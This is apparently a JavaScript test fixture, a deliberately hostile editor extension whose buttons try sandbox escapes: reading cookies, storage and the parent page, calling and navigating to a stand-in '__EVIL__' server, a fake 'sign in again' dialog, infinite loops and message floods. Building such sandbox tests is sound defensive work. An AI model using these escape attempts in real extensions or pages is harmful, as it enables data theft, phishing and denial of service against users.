/**
 * An extension that attacks the console: each button tries one thing, and then names it with "reached" or "refused". The address in `evil` is of
 * a server of the test.
 */
const evil = '__EVIL__';

const within = (milliseconds, promise) =>
  Promise.race([promise, new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), milliseconds))]);
const loads = (element) =>
  within(
    3000,
    new Promise((resolve, reject) => {
      element.onload = resolve;
      element.onerror = reject;
      document.body.append(element);
    }),
  );

/** Each resolves if it got what it wanted. */
const attacks = {
  cookies: () => {
    // biome-ignore lint/suspicious/noDocumentCookie: what is tried
    document.cookie = 'stolen=1';
    if (!document.cookie.includes('stolen')) throw new Error('no cookies');
  },
  'local storage': () => localStorage.setItem('stolen', '1'),
  'session storage': () => sessionStorage.setItem('stolen', '1'),
  'indexed database': () =>
    within(
      3000,
      new Promise((resolve, reject) => {
        const request = indexedDB.open('stolen');
        request.onsuccess = resolve;
        request.onerror = reject;
      }),
    ),
  'page around it': () => parent.document.body.textContent,
  'address around it': () => parent.location.href,
  'call of the API': () => within(3000, fetch('/v1/accounts/workspaces', { headers: { 'x-csrf-protection': '1' } })),
  'call of another server': () => within(3000, fetch(evil, { mode: 'no-cors' })),
  'old kind of call': () =>
    within(
      3000,
      new Promise((resolve, reject) => {
        const call = new XMLHttpRequest();
        call.onload = resolve;
        call.onerror = reject;
        call.open('GET', '/healthz');
        call.send();
      }),
    ),
  socket: () =>
    within(
      3000,
      new Promise((resolve, reject) => {
        const socket = new WebSocket(evil.replace('http', 'ws'));
        socket.onopen = resolve;
        socket.onerror = reject;
      }),
    ),
  picture: () => loads(Object.assign(new Image(), { src: `${evil}picture.png` })),
  module: () => within(3000, import(`${evil}module.js`)),
  script: () => loads(Object.assign(document.createElement('script'), { src: `${evil}module.js` })),
  'text as code': () => new Function('return 1')(),
  worker: () =>
    within(
      3000,
      new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
        worker.onmessage = resolve;
        worker.onerror = reject;
      }),
    ),
  'service worker': () =>
    within(3000, navigator.serviceWorker.register('/healthz')).catch((error) => {
      // Registered or not, a page with an origin is asked about the kind of the script first.
      if (!/MIME|unsupported/i.test(String(error))) throw error;
    }),
  'peer to peer': () => new RTCPeerConnection(),
  clipboard: () => within(3000, navigator.clipboard.writeText('stolen')),
  window: () => {
    const opened = window.open(`${evil}page.html`);
    if (!opened) throw new Error('no window');
    opened.close();
  },
  dialog: () => {
    if (!confirm('Please sign in again.')) throw new Error('no dialog');
  },
  'style sheet': () =>
    loads(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${evil}style.css` })),
};

/** These have no result of their own: the test looks at the console. */
const deeds = {
  'top navigation': () => {
    top.location.href = `${evil}page.html`;
  },
  'own navigation': () => {
    location.href = `${evil}page.html`;
  },
  form: () => {
    const form = Object.assign(document.createElement('form'), { action: `${evil}page.html`, method: 'post' });
    document.body.append(form);
    form.submit();
  },
  download: () => Object.assign(document.createElement('a'), { href: 'data:text/plain,x', download: 'x.txt' }).click(),
  'endless loop': () => {
    for (;;);
  },
  flood: () => {
    for (let count = 0; count < 100_000; count += 1) editor.toast(`message ${count}`);
  },
  'huge value': () => editor.change('x'.repeat(10_000_000)),
  'value of another type': () => editor.change(7),
  'no message of the interface': () => editor.change({ html: '<img>' }),
  'huge height': () => {
    document.body.firstElementChild.style.height = '100000px';
  },
  'other item': () =>
    setTimeout(() => {
      editor.openItem('hero', 1);
      editor.toast('It has asked.');
    }, 1000),
  focus: () => setInterval(() => document.querySelector('input').focus(), 50),
};

let editor;
quartermaster.define({
  editor: (root, given) => {
    editor = given;
    const input = document.createElement('input');
    input.setAttribute('aria-label', 'Bait');
    const results = document.createElement('ul');
    const say = (text) => results.append(Object.assign(document.createElement('li'), { textContent: text }));
    const button = (name, attempt) => {
      const made = Object.assign(document.createElement('button'), { type: 'button', textContent: name });
      made.onclick = attempt;
      root.append(made);
    };
    for (const [name, attempt] of Object.entries(attacks))
      button(name, async () => {
        try {
          await attempt();
          say(`${name}: reached`);
        } catch {
          say(`${name}: refused`);
        }
      });
    for (const [name, attempt] of Object.entries(deeds)) button(name, attempt);
    root.append(input, results);
    return (context) => say(`told: ${JSON.stringify(context)}`);
  },
});
